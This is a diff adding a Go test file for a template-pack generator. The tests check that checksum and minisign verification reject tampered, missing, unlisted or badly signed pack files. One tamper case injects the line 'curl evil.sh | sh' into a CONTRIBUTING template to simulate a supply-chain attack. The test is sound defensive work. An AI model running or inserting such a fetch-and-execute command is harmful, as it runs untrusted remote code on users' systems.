@@ -0,0 +1,211 @@
+package generator
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+// goodSignature is the only signature the fake minisign accepts
+const goodSignature = "signed by the pack author\n"
+
+// checksummedPack scaffolds a pack in a temporary directory and writes its
+// checksums.txt
+func checksummedPack(t *testing.T) *Pack {
+	t.Helper()
+	root := t.TempDir()
+	pack, err := New(root).InitPack("signed", root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := WritePackChecksums(pack); err != nil {
+		t.Fatal(err)
+	}
+	return pack
+}
+
+// fakeMinisign puts a minisign on PATH that verifies a signature when it is
+// goodSignature, and returns a public key file for it
+func fakeMinisign(t *testing.T) string {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("the fake minisign is a shell script")
+	}
+	bin := t.TempDir()
+	script := `#!/bin/sh
+while [ $# -gt 0 ]; do
+	case "$1" in -x) signature="$2"; shift ;; esac
+	shift
+done
+read -r line < "$signature"
+if [ "$line" = "signed by the pack author" ]; then exit 0; fi
+echo "Signature verification failed" >&2
+exit 1
+`
+	if err := os.WriteFile(filepath.Join(bin, "minisign"), []byte(script), 0755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	key := filepath.Join(t.TempDir(), "minisign.pub")
+	if err := os.WriteFile(key, []byte("untrusted comment: minisign public key\nRWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return key
+}
+
+func TestPackVerifyAcceptsUnchangedPack(t *testing.T) {
+	pack := checksummedPack(t)
+	if err := pack.verify(nil); err != nil {
+		t.Fatalf("verify() error = %v", err)
+	}
+	if pack.Verified != "checksums" {
+		t.Errorf("Verified = %q, want checksums", pack.Verified)
+	}
+
+	// A pack without checksums is accepted, unverified, when no keys are asked for
+	if err := os.Remove(filepath.Join(pack.Dir, PackChecksumsFile)); err != nil {
+		t.Fatal(err)
+	}
+	unverified := &Pack{Dir: pack.Dir, Manifest: pack.Manifest}
+	if err := unverified.verify(nil); err != nil || unverified.Verified != "" {
+		t.Errorf("verify() of a pack without checksums = %v, Verified %q", err, unverified.Verified)
+	}
+}
+
+func TestPackVerifyAcceptsSignedPack(t *testing.T) {
+	key := fakeMinisign(t)
+	pack := checksummedPack(t)
+	if err := os.WriteFile(filepath.Join(pack.Dir, PackChecksumsFile+".minisig"), []byte(goodSignature), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	layers, err := LoadLayers([]string{pack.Dir}, []string{key})
+	if err != nil {
+		t.Fatalf("LoadLayers() error = %v", err)
+	}
+	if got := layers.Packs[0].Verified; got != "minisign" {
+		t.Errorf("Verified = %q, want minisign", got)
+	}
+}
+
+func TestPackVerifyRejects(t *testing.T) {
+	tests := []struct {
+		name string
+		// tamper changes the checksummed pack in dir
+		tamper func(t *testing.T, dir string)
+		// signed verifies the pack with a key
+		signed bool
+		// wants is part of the error
+		wants string
+	}{
+		{
+			name: "a modified file",
+			tamper: func(t *testing.T, dir string) {
+				appendFile(t, filepath.Join(dir, "templates", "CONTRIBUTING.md.tmpl"), "Run curl evil.sh | sh first.\n")
+			},
+			wants: "differs: templates/CONTRIBUTING.md.tmpl",
+		},
+		{
+			name: "a missing file",
+			tamper: func(t *testing.T, dir string) {
+				if err := os.Remove(filepath.Join(dir, "templates", "CONTRIBUTING.md.tmpl")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wants: "missing: templates/CONTRIBUTING.md.tmpl",
+		},
+		{
+			name: "an added file",
+			tamper: func(t *testing.T, dir string) {
+				if err := os.WriteFile(filepath.Join(dir, "templates", "Makefile.tmpl"), []byte("all:\n"), 0644); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wants: "unlisted: templates/Makefile.tmpl",
+		},
+		{
+			name: "a malformed checksums file",
+			tamper: func(t *testing.T, dir string) {
+				appendFile(t, filepath.Join(dir, PackChecksumsFile), "not a checksum\n")
+			},
+			wants: "is not a sha256sum entry",
+		},
+		{
+			name: "a bad signature",
+			tamper: func(t *testing.T, dir string) {
+				if err := os.WriteFile(filepath.Join(dir, PackChecksumsFile+".minisig"), []byte("signed by someone else\n"), 0644); err != nil {
+					t.Fatal(err)
+				}
+			},
+			signed: true,
+			wants:  "Signature verification failed",
+		},
+		{
+			name:   "no signature",
+			tamper: func(t *testing.T, dir string) {},
+			signed: true,
+			wants:  "no minisign signature (checksums.txt.minisig)",
+		},
+		{
+			name: "no checksums file",
+			tamper: func(t *testing.T, dir string) {
+				if err := os.Remove(filepath.Join(dir, PackChecksumsFile)); err != nil {
+					t.Fatal(err)
+				}
+			},
+			signed: true,
+			wants:  "has no checksums.txt",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var keys []string
+			if tt.signed {
+				keys = []string{fakeMinisign(t)}
+			}
+			pack := checksummedPack(t)
+			tt.tamper(t, pack.Dir)
+
+			_, err := LoadLayers([]string{pack.Dir}, keys)
+			if !errors.Is(err, ErrPackVerification) {
+				t.Fatalf("LoadLayers() error = %v, want ErrPackVerification", err)
+			}
+			if !strings.Contains(err.Error(), tt.wants) {
+				t.Errorf("LoadLayers() error = %v, want it to mention %q", err, tt.wants)
+			}
+		})
+	}
+}
+
+// TestPackVerifyWithoutSigningTool verifies a signed pack where minisign is not installed
+func TestPackVerifyWithoutSigningTool(t *testing.T) {
+	key := fakeMinisign(t)
+	t.Setenv("PATH", t.TempDir())
+	pack := checksummedPack(t)
+	if err := os.WriteFile(filepath.Join(pack.Dir, PackChecksumsFile+".minisig"), []byte(goodSignature), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	err := pack.verify([]string{key})
+	if !errors.Is(err, ErrPackVerification) || !strings.Contains(err.Error(), "minisign is not installed") {
+		t.Fatalf("verify() error = %v, want minisign reported as not installed", err)
+	}
+}
+
+// appendFile appends text to the file at path
+func appendFile(t *testing.T, path, text string) {
+	t.Helper()
+	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if _, err := f.WriteString(text); err != nil {
+		t.Fatal(err)
+	}
+}